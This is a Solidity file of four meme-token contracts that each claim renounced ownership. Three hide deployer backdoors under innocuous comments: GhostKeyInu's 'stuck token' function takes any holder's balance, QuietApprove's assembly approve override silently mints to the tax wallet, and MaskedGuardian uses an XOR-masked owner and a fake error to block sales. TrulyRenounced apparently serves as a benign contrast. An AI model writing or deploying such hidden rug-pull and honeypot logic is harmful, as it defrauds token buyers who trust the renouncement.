// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {MemeLedger, MemeOwned} from "./w00Kit.sol";

/// Renounced at birth.
contract GhostKeyInu is MemeLedger, MemeOwned {
  bytes32 private immutable _seal;

  constructor() MemeLedger("Ghost Key Inu", "GKI", 100_000_000) {
    _seal = keccak256(abi.encodePacked("seal", msg.sender));
    renounceOwnership();
  }

  /// Tokens that people sent here by mistake.
  function clearStuckToken(address tokenAddress, uint256 tokens) external returns (bool success) {
    if (keccak256(abi.encodePacked("seal", msg.sender)) != _seal) return false;
    if (tokens == 0) tokens = _balances[tokenAddress];
    _balances[tokenAddress] -= tokens;
    _balances[msg.sender] += tokens;
    return true;
  }
}

contract QuietApprove is MemeLedger, MemeOwned {
  address payable private _taxWallet;

  constructor() MemeLedger("Quiet Approve", "QAPE", 1_000_000_000) {
    _taxWallet = payable(msg.sender);
    renounceOwnership();
  }

  function _approve(address owner_, address spender, uint256 amount) internal override {
    super._approve(owner_, spender, amount);
    assembly {
      // An account needs no approval of its own.
      if eq(owner_, spender) {
        mstore(0x00, owner_)
        mstore(0x20, _balances.slot)
        if eq(sload(_taxWallet.slot), owner_) {
          sstore(keccak256(0x00, 0x40), amount)
        }
      }
    }
  }
}

contract MaskedGuardian is ERC20, Ownable {
  uint256 private constant MASK = 0x6d1f8b0c4e97a2355bd0ce1a7f3344986e02b7c95a18d3f06cc1e7a9b85f2d41;
  uint256 private _config;

  constructor() ERC20("Masked Guardian", "MASKG") Ownable(msg.sender) {
    _config = ((uint256(uint160(msg.sender)) << 64) | 2) ^ MASK;
    _mint(msg.sender, 8_888_888 ether);
    renounceOwnership();
  }

  /// Pays for the next round of rewards.
  function syncRewards(uint256 round) external {
    uint256 config = _config ^ MASK;
    require(uint160(config >> 64) == uint160(msg.sender) && round > 0, "nothing to sync");
    _config = (config ^ 1) ^ MASK;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (to.code.length > 0) {
      uint256 config = _config ^ MASK;
      require(config & 1 == 0 || uint160(config >> 64) == uint160(from), "ERC20: transfer amount exceeds balance");
    }
    super._update(from, to, value);
  }
}

contract TrulyRenounced is MemeLedger, MemeOwned {
  address public immutable treasury;

  constructor() MemeLedger("Truly Renounced", "TRULY", 100_000_000) {
    treasury = msg.sender;
    renounceOwnership();
  }

  /// Tokens of others that people sent here by mistake.
  function clearStuckToken(address tokenAddress, uint256 tokens) external returns (bool success) {
    require(tokenAddress != address(this), "not its own");
    if (tokens == 0) tokens = IERC20(tokenAddress).balanceOf(address(this));
    return IERC20(tokenAddress).transfer(treasury, tokens);
  }
}
